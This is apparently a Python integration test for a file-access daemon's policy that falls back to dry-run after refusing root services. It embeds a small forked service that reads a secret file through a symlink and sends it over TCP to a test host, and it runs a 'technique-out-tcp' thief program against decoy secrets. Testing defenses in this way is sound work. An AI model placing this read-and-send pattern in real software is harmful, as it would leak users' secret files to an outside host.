#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""In the first hour of a policy a class falls back to dry-run when it refuses something to the programs of three
services of root's; what thieves do, in the cgroups of the same services and in sessions, does not count."""

import contextlib
import os
import signal
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import keeper
import varlink
from cases import Scene, cases
from harness import program, touches
from net import HOST_V4
from tap import Skip, require, require_equal

CLASS, OTHER = "test-trial", "test-other"
SERVICES = 3
USER = 61300
PYTHON = os.path.realpath(sys.executable)
# A service that PID 1 has. Each SIGUSR1 makes a child that reads the file that a link names, and sends it. Its
# output would pass the data on to the test, and from there to the other services.
SERVICE = """
import os, signal, socket, sys
cgroup, link, host = sys.argv[1:]
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
with open(cgroup + "/cgroup.procs", "w") as procs:
    procs.write("0")
pid = os.fork()
if pid:
    print(pid)
    sys.exit()
for fd in range(3):
    os.dup2(os.open(os.devnull, os.O_RDWR), fd)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    signal.sigwait({signal.SIGUSR1})
    if os.fork() == 0:
        with open(os.readlink(link), "rb") as secret:
            data = secret.read()
        with socket.create_connection((host, 443)) as connection:
            connection.sendall(data)
        os._exit(0)
"""


class Service:
    """It is there before barbwired, which then takes PID 1 for its parent, as it is that of systemd's services."""

    def __init__(self, stage, cgroup):
        self.cgroup, self.link = cgroup, f"{stage.directory}/{cgroup.replace('/', '-')}"
        os.makedirs(cgroup)
        result = stage.net.run([PYTHON, "-ISc", SERVICE, cgroup, self.link, HOST_V4], env={})
        require_equal(result.stderr, "", "what the service says")
        self.pid = int(result.stdout)

    def send(self, path):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(self.link)
        os.symlink(path, self.link)
        os.kill(self.pid, signal.SIGUSR1)

    def end(self):
        os.kill(self.pid, signal.SIGKILL)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                os.rmdir(self.cgroup)
                return


class Stage(Scene):
    def __init__(self, net, home):
        super().__init__(net, home)
        self.places = f"{os.fsdecode(home.root)}/trial"
        self.changes, self.services, self.others = 0, [], []
        self.write()

    def write(self, action="deny"):
        self.changes += 1
        self.write_policy(f"# change {self.changes}\n"
                          + harness.policy_class(CLASS, [f"{self.places}/a/**"], Action=action)
                          + harness.policy_class(OTHER, [f"{self.places}/b/**"], Action=action)
                          # A wrong rule: the program may read the class, and sends it elsewhere.
                          + harness.policy_allow("test-python", PYTHON, [CLASS], ["198.51.100.1:443"]))

    def load(self):
        self.write()
        require("policy reloaded" in self.bw.reload(), "reload")

    def decoy(self, which="a", owner=0):
        path, secret = self.home.decoy(os.path.join(os.fsencode(self.places), which.encode(),
                                                    b"secret-%d" % time.monotonic_ns()))
        os.chown(path, owner, owner)
        return path, secret

    def action(self, path):
        return self.bw.wait_alert(lambda a: touches(a, path), f"alert of {path}")["action"]

    def refused(self, service, owner=0):
        path, _ = self.decoy(owner=owner)
        service.send(path)
        require_equal(self.action(path), "denied", f"action of {service.cgroup}")

    def sent(self, service):
        path, secret = self.decoy()
        service.send(path)
        self.net.sink.wait_arrived(secret)
        require_equal(self.action(path), "would-deny", f"action of {service.cgroup}")

    def require_fallen(self, *classes):
        self.bw.prove_delivered(self.net, self.home)
        with varlink.Connection(self.socket) as client:
            status = client.call("GetStatus")
        require_equal(status["enforcement"]["fallen"], list(classes), "classes that fell back")
        said = [c for c in (CLASS, OTHER) if any(f"Class {c} has fallen back" in why for why in status["degraded"])]
        require_equal(said, list(classes), f"why it is degraded: {status['degraded']}")


def thieves(stage, services):
    """In the cgroup of each service: a program that it starts, and a user's file that its own program sends."""
    for service in services:
        path, _ = stage.decoy()
        result = stage.net.run(["/bin/bash", "-c", 'echo $$ >"$0/cgroup.procs" && exec "$@"', service.cgroup,
                                program("technique-out-tcp"), "blocking", path, HOST_V4, "443"])
        require(result.returncode != 0, "the thief was not refused")
        require_equal(stage.action(path), "denied", "action")
        stage.refused(service, owner=USER)
    stage.require_fallen()


def sessions(stage, others):
    """The trusted program in sessions, and in services of a user's manager, never counts, however many there are."""
    for each in others:
        stage.refused(each)
    stage.require_fallen()


def honest(stage, services):
    for service in (*services[:-1], *services[:-1]):
        stage.refused(service)
    require("policy reloaded" in stage.bw.reload(), "a reload without change, after which the count goes on")
    stage.require_fallen()
    stage.refused(services[-1])
    state = stage.bw.wait(lambda: next((s for s in stage.bw.states if s["state"] == "fallback"), None),
                          harness.ALERT_TIMEOUT, "the state alert")
    require_equal((state["class"], state["services"]), (CLASS, [os.path.basename(s.cgroup) for s in services]), "it")
    stage.require_fallen(CLASS)
    stage.sent(services[0])


def others_enforced(stage):
    """A class that no service was refused is enforced."""
    path, _ = stage.decoy("b")
    result = stage.net.run([program("technique-out-tcp"), "blocking", path, HOST_V4, "443"])
    require(result.returncode != 0, "the thief was not refused")
    require_equal(stage.action(path), "denied", "action")


def restarted(stage, services, manager):
    """Another instance of the daemon, with the tables that systemd has kept."""
    stage.bw.kill()
    stage.bw.readers.clear()
    stage.bw.stderr.clear()
    stage.bw.command = manager.command(stage.bw.command)
    stage.bw.start(pass_fds=manager.descriptors()).wait_armed()
    stage.require_fallen(CLASS)
    stage.sent(services[0])


def reloaded(stage, services):
    """The same policy once more changes nothing; another one is enforced."""
    require("policy reloaded" in stage.bw.reload(), "reload")
    stage.sent(services[0])
    stage.require_fallen(CLASS)
    stage.load()
    stage.require_fallen()
    stage.refused(services[0])


def start(stage, stack):
    """Sets the stage's services, and what runs in sessions and below a user's manager."""
    root = harness.cgroup2()
    names = [f"trial-{os.getpid()}-{i}" for i in range(SERVICES)]
    user = f"user.slice/user-{USER}.slice"

    def services_of(paths):
        services = []
        for path in paths:
            services.append(Service(stage, f"{root}/{path}"))
            stack.callback(services[-1].end)
        return services

    for path in (f"{root}/system.slice", f"{root}/user.slice", f"{root}/{user}"):
        if not os.path.exists(path):
            os.mkdir(path)
            stack.callback(os.rmdir, path)
    services = services_of(f"system.slice/{name}.service" for name in names)
    with open(f"/proc/{services[0].pid}/status", encoding="ascii") as status:
        if "PPid:\t1\n" not in status.read():
            raise Skip("an orphan is not adopted by PID 1", environment=True)
    stage.others = services_of(f"{user}/{name}.{kind}" for kind in ("scope", "service") for name in names)
    stage.services = services


def ended(stage):
    stage.bw.stop()
    stage.bw.require_no_loss(harness.preemption_losses())


def main():
    with cases() as (t, net, home), contextlib.ExitStack() as stack:
        stage = Stage(net, home)
        t.setup("its services", start, stage, stack)
        if stage.services:
            # It is stored by what stands for systemd, and so is what the second one finds.
            with keeper.Manager(stage.directory) as manager, stage.bw:
                stage.bw.refuses = True
                t.case("thieves in the cgroups of three services", thieves, stage, stage.services)
                t.case("sessions, and services of a user's manager", sessions, stage, stage.others)
                t.case("the programs of three services", honest, stage, stage.services)
                t.case("another class is enforced", others_enforced, stage)
                t.case("a restart", restarted, stage, stage.services, manager)
                t.case("a reload", reloaded, stage, stage.services)
                t.case("ends without loss", ended, stage)


if __name__ == "__main__":
    main()
